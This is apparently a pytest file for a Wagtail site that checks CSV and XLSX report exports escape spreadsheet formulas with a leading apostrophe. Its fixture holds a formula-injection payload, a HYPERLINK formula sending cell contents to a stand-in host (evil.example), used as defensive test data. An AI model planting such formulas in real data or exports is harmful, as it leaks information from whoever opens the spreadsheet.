"""Wagtail's own CSV/XLSX exports (reports, site history, any listing that exports) go
through the project's formula guard (core/exports.py, issue #15 item 5): a title or a display
name typed as ``=HYPERLINK(...)`` reaches the spreadsheet as text, with a leading apostrophe."""

import csv
import io

import pytest
from django.test import Client
from django.urls import get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from core import exports
from tests.factories import cms as factories

from ..factories.accounts import UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ouvrir")'


@pytest.fixture
def world(db):
    home_ar = factories.arabic_home()
    author = UserFactory(full_name_latin=FORMULA, full_name_ar="+SUM(1,2)")
    page = factories.standard_page(home_ar, title=FORMULA, owner=author)
    log(instance=page, action="wagtail.edit", user=author)
    page.locked, page.locked_by, page.locked_at = True, author, timezone.now()
    page.save()
    client = Client(raise_request_exception=False)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    return {"client": client, "home": home_ar, "page": page}


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize(
    "url",
    [
        "/admin/reports/site-history/",
        "/admin/reports/locked/",
    ],
)
def test_a_formula_reaches_wagtail_csv_exports_as_text(world, url):
    rows = csv_rows(world["client"].get(f"{url}?export=csv"))
    values = cells(rows)
    assert "'" + FORMULA in values, values
    assert not [value for value in values if value.startswith(exports.FORMULA_PREFIXES)]


def test_the_site_history_names_a_formula_user_as_text(world):
    values = cells(csv_rows(world["client"].get("/admin/reports/site-history/?export=csv")))
    assert values.count("'" + FORMULA) >= 2  # the page's name and the user who edited it


def test_a_formula_reaches_wagtail_xlsx_exports_as_text(world):
    response = world["client"].get("/admin/reports/locked/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    titles = [cell for cell in values if cell.value == "'" + FORMULA]
    assert titles and all(cell.data_type == "s" for cell in titles)
    assert not [c for c in values if isinstance(c.value, str) and c.value.startswith("=")]


def _subclasses(cls):
    for subclass in cls.__subclasses__():
        yield subclass
        yield from _subclasses(subclass)


def test_no_wagtail_export_view_steps_around_the_guard():
    assert get_resolver().url_patterns  # loading the URLs imports every admin view module
    guarded = (SpreadsheetExportMixin.preprocess_field_value, SpreadsheetExportMixin.get_heading)
    assert SpreadsheetExportMixin._tamkeen_guarded
    views = list(_subclasses(SpreadsheetExportMixin))
    assert len(views) > 10  # the explorer, the reports, site history, listings...
    for view in views:
        assert (view.preprocess_field_value, view.get_heading) == guarded, view


def test_the_guard_is_installed_once(world):
    before = SpreadsheetExportMixin.preprocess_field_value
    exports.guard_wagtail_exports()
    assert SpreadsheetExportMixin.preprocess_field_value is before
